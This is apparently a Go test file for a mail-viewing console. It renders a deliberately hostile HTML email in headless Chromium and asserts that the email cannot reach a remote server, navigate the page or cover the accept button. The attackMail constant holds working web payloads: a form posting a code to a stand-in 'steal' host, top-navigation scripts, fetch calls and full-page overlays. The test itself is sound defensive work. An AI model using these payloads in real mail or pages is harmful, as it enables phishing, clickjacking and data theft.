package console

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	"ppamaild/sandbox/raced"
)

// attackMail reaches for the page around it and for another server.
const attackMail = `<base href="REMOTE/"><meta http-equiv="refresh" content="0;url=REMOTE/refresh">
<link rel="stylesheet" href="REMOTE/sheet"><style>@import url(REMOTE/import);
body { background: url(REMOTE/back); position: fixed; inset: 0; width: 9999px; height: 9999px; z-index: 99999; }
button { position: fixed; inset: 0; z-index: 99999; width: 9999px; height: 9999px; }</style>
<script>top.document.title = 'owned'; parent.location = 'REMOTE/script'; fetch('REMOTE/fetch');</script>
<img src="REMOTE/pixel" onerror="top.location='REMOTE/error'"><video src="REMOTE/video" autoplay></video>
<iframe src="REMOTE/frame"></iframe><object data="REMOTE/object"></object>
<form action="REMOTE/steal" method="post" target="_top"><input name="code" value="123456">
<button formaction="REMOTE/steal">Accept</button></form>`

// A hostile mail runs nothing, loads nothing, sends nothing, and covers nothing but its frame: on
// a phone and on a desktop, in light and dark mode, with scripts and without.
func TestAHostileMailInChromium_Slow(t *testing.T) {
	t.Parallel()
	var reached atomic.Pointer[string]
	remote := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		path := r.URL.Path
		reached.Store(&path)
	}))
	t.Cleanup(remote.Close)
	b := newOffice(t).browser()
	b.desk.one.Draft.HTML = strings.ReplaceAll(attackMail, "REMOTE", remote.URL)
	b.signsIn(lee)
	ctx := chromium(t)
	cookie := b.client.Jar.Cookies(mustURL(t, b.server.URL))[0]
	must(t, chromedp.Run(ctx, network.SetCookie(cookie.Name, cookie.Value).WithURL(b.server.URL)))
	for i, look := range []struct {
		width   int64
		scheme  string
		scripts bool
	}{
		{1200, "light", true}, {1200, "dark", false}, {390, "dark", true}, {390, "light", false},
	} {
		must(t, chromedp.Run(ctx,
			chromedp.EmulateViewport(look.width, 900),
			emulation.SetEmulatedMedia().WithFeatures([]*emulation.MediaFeature{
				{Name: "prefers-color-scheme", Value: look.scheme},
			}),
			emulation.SetScriptExecutionDisabled(!look.scripts)))
		b.isUnharmed(ctx)
		if path := reached.Load(); path != nil {
			t.Errorf("%v: the mail reached %s of another server", look, *path)
		}
		if b.decisions() != i+1 {
			t.Errorf("%v: %d decisions", look, b.decisions())
		}
	}
}

// chromium opens a tab of headless Chromium.
func chromium(t *testing.T) context.Context {
	options := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath("chromium"), chromedp.NoSandbox)
	ctx, end := chromedp.NewExecAllocator(context.WithoutCancel(t.Context()), options...)
	t.Cleanup(end)
	ctx, end = chromedp.NewContext(ctx)
	t.Cleanup(end)
	ctx, end = context.WithTimeout(ctx, raced.Slowdown*3*time.Minute)
	t.Cleanup(end)
	return ctx
}

// isUnharmed opens the page with the mail, clicks the mail, checks the page, and accepts.
func (b *browser) isUnharmed(ctx context.Context) {
	b.t.Helper()
	var title, address, top, inFrame string
	must(b.t, chromedp.Run(ctx,
		chromedp.Navigate(b.server.URL+"/r/Q-7F3K2M/2"), // waits for the frame, too
		chromedp.Click("iframe.mail", chromedp.ByQuery), // the button covers the frame
		chromedp.Title(&title), chromedp.Location(&address),
		chromedp.Evaluate(`(() => {
			const accept = document.getElementById('accept');
			accept.scrollIntoView({ block: 'center' });
			const at = accept.getBoundingClientRect();
			return document.elementFromPoint(at.x + 5, at.y + 5).id;
		})()`, &top),
		chromedp.Evaluate(`String(document.querySelector('iframe.mail').contentDocument)`, &inFrame),
	))
	if !strings.HasPrefix(title, "Quote for Alice") || address != b.server.URL+"/r/Q-7F3K2M/2" {
		b.t.Errorf("the page is %q at %s", title, address)
	}
	if top != "accept" || inFrame != "null" {
		b.t.Errorf("%q is over the button; the page sees %s in the frame", top, inFrame)
	}
	must(b.t, chromedp.Run(ctx, chromedp.Click("#accept", chromedp.ByQuery),
		chromedp.WaitVisible(".done", chromedp.ByQuery)))
}
